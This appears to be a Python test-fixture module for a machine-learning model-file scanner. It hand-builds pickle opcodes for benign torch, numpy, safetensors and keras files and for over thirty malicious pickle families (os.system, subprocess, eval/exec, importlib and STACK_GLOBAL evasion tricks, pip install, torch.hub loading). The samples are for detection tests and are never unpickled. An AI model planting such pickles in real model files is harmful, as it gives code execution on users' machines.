"""Hand-written pickle opcodes for the model-file tests. Nothing here is ever unpickled.

The malicious samples below are what public bypass reports describe (THREATS.md §6): each
builder returns bytes only. Tests scan them; none calls pickle.load(s).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

PROTO = b"\x80"
STOP = b"."
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
REDUCE = b"R"
BUILD = b"b"
EMPTY_DICT = b"}"
EMPTY_TUPLE = b")"
NEWOBJ = b"\x81"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
SETITEM = b"s"
SETITEMS = b"u"
NONE = b"N"
BINPERSID = b"Q"


def proto(n: int) -> bytes:
    return PROTO + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-3 style)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def sbytes(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def call(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args) with GLOBAL + MARK + args + TUPLE + REDUCE."""
    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def program(body: bytes, protocol: int = 2) -> bytes:
    return proto(protocol) + body + STOP


# -- malicious families (THREATS.md §6) ------------------------------------------------------


class _Reduce:
    """An object whose __reduce__ names a callable; only ever pickled, never unpickled."""

    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def reduce_pickle(func: object, args: tuple[object, ...], protocol: int = 4) -> bytes:
    return pickle.dumps(_Reduce(func, args), protocol=protocol)


def os_system(command: str = "id", protocol: int = 4) -> bytes:
    return reduce_pickle(os.system, (command,), protocol)


def malicious_samples() -> dict[str, bytes]:
    """One pickle per bypass family, each expected to be blocked (critical)."""
    import builtins
    import functools
    import operator
    import subprocess

    stack_global_memo = (
        proto(4)
        + ustr("o")
        + MEMOIZE
        + ustr("s")
        + MEMOIZE
        # build "os" and "system" from memo'd pieces is not possible without calls, so store
        # them once and fetch them back through GET: the names only meet on the stack.
        + ustr("os")
        + put(10)
        + b"0"
        + ustr("system")
        + put(11)
        + b"0"
        + get(10)
        + get(11)
        + STACK_GLOBAL
        + ustr("id")
        + TUPLE1
        + REDUCE
        + STOP
    )
    computed_name = program(
        call("builtins", "str", ustr("os"))
        + ustr("system")
        + STACK_GLOBAL
        + ustr("id")
        + TUPLE1
        + REDUCE,
        4,
    )
    build_on_global = program(
        glob("collections", "OrderedDict")
        + NONE
        + EMPTY_DICT
        + ustr("__reduce__")
        + glob("os", "system")
        + SETITEM
        + TUPLE2
        + BUILD,
        2,
    )
    importlib_chain = program(
        glob("builtins", "getattr")
        + MARK
        + call("importlib", "import_module", ustr("os"))
        + ustr("system")
        + TUPLE
        + REDUCE
        + MARK
        + ustr("id")
        + TUPLE
        + REDUCE,
        2,
    )
    attrgetter = program(
        call("operator", "attrgetter", ustr("system"))
        + MARK
        + call("importlib", "import_module", ustr("os"))
        + TUPLE
        + REDUCE
        + MARK
        + ustr("id")
        + TUPLE
        + REDUCE,
        2,
    )
    marshal_code = program(
        glob("types", "FunctionType")
        + MARK
        + call("marshal", "loads", sbytes(b"\xe3" + b"\x00" * 16))
        + EMPTY_DICT
        + TUPLE
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE,
        2,
    )
    nested = program(call("pickle", "loads", sbytes(os_system())), 2)
    nullifai = proto(2) + call("posix", "system", ustr("id")) + b"\xff" * 4  # no STOP
    inst_protocol0 = b"(S'id'\nios\nsystem\n."
    python2_names = b"c__builtin__\neval\n(S'1+1'\ntR."
    dotted = program(
        ustr("torch.serialization")
        + ustr("os.system")
        + STACK_GLOBAL
        + ustr("id")
        + TUPLE1
        + REDUCE,
        4,
    )
    return {
        "os_system_reduce": os_system(),
        "os_system_protocol0": os_system(protocol=0),
        "os_system_protocol1": os_system(protocol=1),
        "os_system_protocol2": os_system(protocol=2),
        "os_system_protocol3": os_system(protocol=3),
        "os_system_protocol5": os_system(protocol=5),
        "subprocess_popen": reduce_pickle(subprocess.Popen, (["id"],)),
        "subprocess_check_output": reduce_pickle(subprocess.check_output, (["id"],)),
        "builtins_exec": reduce_pickle(builtins.exec, ("import os",)),
        "builtins_eval": reduce_pickle(builtins.eval, ("1+1",)),
        "builtins_compile_getattr": program(
            call("builtins", "compile", ustr("1"), ustr("f"), ustr("eval")), 2
        ),
        "runpy_run_path": program(call("runpy", "run_path", ustr("/tmp/x.py")), 2),
        "runpy_run_code": program(call("runpy", "_run_code", ustr("print(1)"), EMPTY_DICT), 2),
        "importlib_import_module": importlib_chain,
        "pkgutil_resolve_name": program(
            call("pkgutil", "resolve_name", ustr("os:system")) + MARK + ustr("id") + TUPLE + REDUCE,
            2,
        ),
        "pip_main": program(call("pip", "main", b"]" + ustr("install") + b"a"), 2),
        "pip_internal_main": program(call("pip._internal", "main", b"]"), 2),
        "operator_attrgetter": attrgetter,
        "operator_methodcaller": reduce_pickle(operator.methodcaller, ("system", "id")),
        "functools_partial": reduce_pickle(functools.partial, (os.system, "id")),
        "marshal_function": marshal_code,
        "nested_pickle": nested,
        "memo_stack_global": stack_global_memo,
        "computed_stack_global": computed_name,
        "build_on_global": build_on_global,
        "inst_protocol0": inst_protocol0,
        "python2_builtin_names": python2_names,
        "nullifai_broken": nullifai,
        "attribute_walk": dotted,
        "asyncio_subprocess": program(
            call("asyncio.subprocess", "create_subprocess_shell", ustr("id")), 2
        ),
        "timeit_code_string": program(call("timeit", "timeit", ustr("import os")), 2),
        "pdb_run": program(call("pdb", "run", ustr("import os")), 2),
        "ensurepip_run_pip": program(call("ensurepip", "_run_pip", b"]"), 2),
        "numpy_f2py": program(call("numpy.f2py", "compile", ustr("x")), 2),
        "torch_hub_load": program(call("torch.hub", "load", ustr("evil/repo"), ustr("model")), 2),
        "webbrowser_open": program(call("webbrowser", "open", ustr("http://x")), 2),
        "socket_connect": program(call("socket", "create_connection", ustr("x")), 2),
    }


# -- benign, shaped like what torch writes ------------------------------------------------


def torch_like_state_dict(tensors: int = 3) -> bytes:
    """The opcodes torch.save writes for an OrderedDict of tensors (protocol 2, persistent
    ids), built by hand so the test runs where torch is not installed."""
    out = proto(2) + glob("collections", "OrderedDict") + put(0) + EMPTY_TUPLE + REDUCE + put(1)
    out += MARK
    for i in range(tensors):
        out += ustr(f"layer{i}.weight")
        out += glob("torch._utils", "_rebuild_tensor_v2") + put(2) if i == 0 else get(2)
        out += MARK
        # persistent id ('storage', torch.FloatStorage, key, location, numel)
        out += MARK + ustr("storage")
        out += glob("torch", "FloatStorage") + put(3) if i == 0 else get(3)
        out += ustr(str(i))
        out += ustr("cpu") + binint(12) + TUPLE + BINPERSID
        out += binint(0)
        out += binint(3) + binint(4) + TUPLE2
        out += binint(4) + binint(1) + TUPLE2
        out += b"\x89"  # NEWFALSE: requires_grad
        out += get(0) + EMPTY_TUPLE + REDUCE  # backward hooks: OrderedDict()
        out += TUPLE + REDUCE
    out += SETITEMS
    return out + STOP


# What `torch.save(nn.Sequential(nn.Linear(4, 4), nn.BatchNorm1d(4)))` wrote as
# `archive/data.pkl` with torch 2.13.0 (CPU wheel), copied byte for byte; never unpickled.
TORCH_SEQUENTIAL_DATA_PKL = bytes.fromhex(
    "800263746f7263682e6e6e2e6d6f64756c65732e636f6e7461696e65720a53657175656e7469616c0a710029"
    "8171017d7102285808000000747261696e696e67710388580b0000005f706172616d657465727371047d7105"
    "58080000005f6275666665727371067d7107581b0000005f6e6f6e5f70657273697374656e745f6275666665"
    "72735f7365747108635f5f6275696c74696e5f5f0a7365740a71095d710a85710b52710c58130000005f6261"
    "636b776172645f7072655f686f6f6b73710d63636f6c6c656374696f6e730a4f726465726564446963740a71"
    "0e2952710f580f0000005f6261636b776172645f686f6f6b737110680e2952711158160000005f69735f6675"
    "6c6c5f6261636b776172645f686f6f6b71124e580e0000005f666f72776172645f686f6f6b737113680e2952"
    "7114581a0000005f666f72776172645f686f6f6b735f776974685f6b77617267737115680e29527116581c00"
    "00005f666f72776172645f686f6f6b735f616c776179735f63616c6c65647117680e2952711858120000005f"
    "666f72776172645f7072655f686f6f6b737119680e2952711a581e0000005f666f72776172645f7072655f68"
    "6f6f6b735f776974685f6b7761726773711b680e2952711c58110000005f73746174655f646963745f686f6f"
    "6b73711d680e2952711e58150000005f73746174655f646963745f7072655f686f6f6b73711f680e29527120"
    "581a0000005f6c6f61645f73746174655f646963745f7072655f686f6f6b737121680e29527122581b000000"
    "5f6c6f61645f73746174655f646963745f706f73745f686f6f6b737123680e2952712458080000005f6d6f64"
    "756c657371257d712628580100000030712763746f7263682e6e6e2e6d6f64756c65732e6c696e6561720a4c"
    "696e6561720a7128298171297d712a2868038868047d712b285806000000776569676874712c63746f726368"
    "2e5f7574696c730a5f72656275696c645f706172616d657465720a712d63746f7263682e5f7574696c730a5f"
    "72656275696c645f74656e736f725f76320a712e2828580700000073746f72616765712f63746f7263680a46"
    "6c6f617453746f726167650a71305801000000307131580300000063707571324b10747133514b004b044b04"
    "8671344b044b0186713589680e2952713674713752713888680e2952713987713a52713b5804000000626961"
    "73713c682d682e2828682f6830580100000031713d68324b0474713e514b004b0485713f4b0185714089680e"
    "2952714174714252714388680e295271448771455271467568067d7147680868095d714885714952714a680d"
    "680e2952714b6810680e2952714c68124e6813680e2952714d6815680e2952714e6817680e2952714f681968"
    "0e29527150681b680e29527151681d680e29527152681f680e295271536821680e295271546823680e295271"
    "5568257d7156580b000000696e5f666561747572657371574b04580c0000006f75745f666561747572657371"
    "584b047562580100000031715963746f7263682e6e6e2e6d6f64756c65732e62617463686e6f726d0a426174"
    "63684e6f726d31640a715a2981715b7d715c2868038868047d715d28682c682d682e2828682f683058010000"
    "0032715e68324b0474715f514b004b048571604b0185716189680e2952716274716352716488680e29527165"
    "877166527167683c682d682e2828682f6830580100000033716868324b04747169514b004b0485716a4b0185"
    "716b89680e2952716c74716d52716e88680e2952716f8771705271717568067d717228580c00000072756e6e"
    "696e675f6d65616e7173682e2828682f6830580100000034717468324b04747175514b004b048571764b0185"
    "717789680e2952717874717952717a580b00000072756e6e696e675f766172717b682e2828682f6830580100"
    "000035717c68324b0474717d514b004b0485717e4b0185717f89680e2952718074718152718258130000006e"
    "756d5f626174636865735f747261636b65647183682e2828682f63746f7263680a4c6f6e6753746f72616765"
    "0a7184580100000036718568324b01747186514b00292989680e2952718774718852718975680868095d718a"
    "85718b52718c680d680e2952718d6810680e2952718e68124e6813680e2952718f6815680e29527190681768"
    "0e295271916819680e29527192681b680e29527193681d680e29527194681f680e295271956821680e295271"
    "966823680e2952719768257d7198580c0000006e756d5f666561747572657371994b04580300000065707371"
    "9a473ee4f8b588e368f158080000006d6f6d656e74756d719b473fb999999999999a5806000000616666696e"
    "65719c885813000000747261636b5f72756e6e696e675f7374617473719d8875627575622e"
)


def torch_whole_model(*extra: bytes) -> bytes:
    """A whole-model save shaped like torch's: NEWOBJ of torch.nn classes, their state by
    BUILD, with `extra` values (more globals, a payload) stored in the module's __dict__."""
    out = proto(2) + glob("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE + NEWOBJ
    out += EMPTY_DICT + MARK + ustr("training") + b"\x88"
    out += ustr("_modules") + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    out += MARK + ustr("0") + glob("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ
    out += EMPTY_DICT + ustr("in_features") + binint(4) + SETITEM + BUILD + SETITEMS
    for i, value in enumerate(extra):
        out += ustr(f"extra{i}") + value
    out += SETITEMS + BUILD
    return out + STOP


def torch_zip(
    path: Path, data_pkl: bytes, name: str = "archive", storages: int = 3, storage_bytes: int = 48
) -> Path:
    """A torch zip checkpoint: `<name>/data.pkl`, `<name>/data/<i>`, version, byteorder."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{name}/data.pkl", data_pkl)
        zf.writestr(f"{name}/byteorder", "little")
        for i in range(storages):
            zf.writestr(f"{name}/data/{i}", b"\x00" * storage_bytes)
        zf.writestr(f"{name}/version", "3\n")
        zf.writestr(f"{name}/.data/serialization_id", "1234")
    return path


def npy_object(payload: bytes) -> bytes:
    """An .npy file with an object dtype: the header, then a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload


def npy_plain(values: int = 4) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({values},), }}"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + b"\x00" * 8 * values


def safetensors(
    tensors: dict[str, tuple[str, list[int], int]],
    *,
    header_extra: str = "",
    trailing: bytes = b"",
    offsets: dict[str, list[int]] | None = None,
) -> bytes:
    """A safetensors file: {name: (dtype, shape, nbytes)} laid out back to back."""
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    cursor = 0
    for name, (dtype, shape, nbytes) in tensors.items():
        span = (offsets or {}).get(name, [cursor, cursor + nbytes])
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": span}
        cursor += nbytes
    raw = json.dumps(header).encode()
    if header_extra:
        raw = raw[:-1] + header_extra.encode() + b"}"
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * cursor + trailing


def keras_zip(path: Path, layers: list[dict[str, object]]) -> Path:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
    }
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 32)
    return path


def legacy_tar(path: Path, record: bytes | None = None) -> Path:
    """torch's legacy tar checkpoint: sys_info, pickle, storages, tensors."""
    if record is None:
        record = program(ustr("0") + ustr("cpu") + glob("torch", "FloatStorage") + b"\x87", 2)
    storages = (
        pickle.dumps(1, protocol=2)
        + record
        + struct.pack("<q", 2)
        + b"\x00" * 8
        + pickle.dumps([], protocol=2)
    )
    tensors = pickle.dumps(0, protocol=2)
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": program(glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE, 2),
        "storages": storages,
        "tensors": tensors,
    }
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


# -- shapes real loaders accept (issue 16) ---------------------------------------------------

TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(obj_pickle: bytes, protocol: int = 1, at: int = 4) -> bytes:
    """torch's legacy (non-zip) file: magic, protocol version, sys info, the object, storage
    keys, each a pickle; `obj_pickle` goes in slot `at` (1-5)."""
    slots = [
        pickle.dumps(TORCH_LEGACY_MAGIC, protocol=protocol),
        pickle.dumps(1001, protocol=protocol),
        pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}},
            protocol=protocol,
        ),
        pickle.dumps({"epoch": 3}, protocol=protocol),
        pickle.dumps([], protocol=protocol),
    ]
    slots[at - 1] = obj_pickle
    return b"".join(slots)


def headerless(data: bytes) -> bytes:
    """A protocol 4+ pickle without its PROTO and FRAME opcodes: the unpickler needs neither."""
    assert data[:1] == PROTO
    rest = data[2:]
    if rest[:1] == b"\x95":  # FRAME + 8-byte length
        rest = rest[9:]
    return rest


def npy_with_descr(descr: str, payload: bytes, shape: str = "(1,)", version: int = 1) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(text)) + text + payload


def lz4_stored_frame(data: bytes) -> bytes:
    """An LZ4 frame whose one block is stored uncompressed (valid for any LZ4 reader)."""
    flg, bd = 0x60, 0x40  # version 01, independent blocks; 64 KiB blocks
    out = b"\x04\x22\x4d\x18" + bytes([flg, bd, 0x82])
    for i in range(0, len(data), 64 << 10):
        block = data[i : i + (64 << 10)]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    return out + b"\x00\x00\x00\x00"


def zip_with(
    path: Path,
    members: list[tuple[str, bytes]],
    *,
    mode: int | None = None,
) -> Path:
    """A stored zip; `mode` sets every member's Unix mode (0o120777: a symlink flag)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            if mode is not None:
                info.external_attr = mode << 16
            zf.writestr(info, data)
    return path
